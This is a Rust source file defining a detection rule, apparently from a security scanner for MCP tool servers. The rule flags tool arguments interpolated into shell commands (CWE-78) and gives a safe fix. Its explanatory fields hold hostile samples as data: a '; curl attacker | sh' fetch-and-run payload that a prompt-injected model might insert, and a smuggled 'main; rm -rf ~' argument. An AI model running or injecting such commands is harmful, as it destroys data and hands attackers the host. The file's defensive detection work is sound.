//! Tool input interpolated into a command line that a shell runs.

use super::{is_shell, program};
use crate::flow::{HitKind, clear, label};
use crate::rules::{Cx, Raw, Rule};
use crate::sinks::Effect;
use warden_core::{Category, Confidence, Severity};

pub static RULE: Rule = Rule {
    id: "cmd-shell-injection",
    title: "Tool argument reaches a shell command line",
    category: Category::CommandInjection,
    cwe: "CWE-78",
    severity: Severity::Critical,
    what: "Finds tool arguments that are interpolated or concatenated into a string that is run by a shell: `child_process.exec`/`execSync`, `spawn(..., { shell: true })`, `subprocess.*(..., shell=True)`, `os.system`, `os.popen`, `asyncio.create_subprocess_shell`, or `sh -c`.",
    why: "A model that follows injected instructions can put `; curl attacker | sh` into any string argument. The shell runs it with the server's credentials, on the server's host. This is the most common critical MCP advisory (CVE-2025-53967, CVE-2025-54073).",
    example: "server.tool(\"git_log\", { ref: z.string() }, async ({ ref }) => {\n  const out = execSync(`git log ${ref}`); // ref = \"main; rm -rf ~\"\n  return { content: [{ type: \"text\", text: out.toString() }] };\n});",
    fix: "Pass an argument vector to a program without a shell (`execFile(\"git\", [\"log\", \"--\", ref])`, `subprocess.run([\"git\", \"log\", \"--\", ref])`), and validate the value against an allowlist or an anchored pattern. Quoting (`shlex.quote`) is a last resort.",
    check,
};

fn check(cx: &Cx, out: &mut Vec<Raw>) {
    for (h, hit) in cx.hits() {
        if hit.taint.labels & label::ARG == 0 || cx.cleared(h, hit, clear::SHELL) {
            continue;
        }
        let shell_c = program(hit).is_some_and(is_shell)
            && hit
                .argv_pos
                .as_ref()
                .is_some_and(|(_, b)| b.iter().any(|a| a == "-c" || a == "/c" || a == "-Command"));
        let built_shell = hit.kind == HitKind::Sink(Effect::Shell) && hit.taint.built;
        if !(built_shell || shell_c) {
            continue;
        }
        let msg = format!(
            "Tool input is built into a command line run by a shell (`{}`); shell metacharacters in it run arbitrary commands.",
            hit.callee
        );
        out.push(cx.from_hit(&RULE, h, hit, msg, Confidence::High));
    }
}
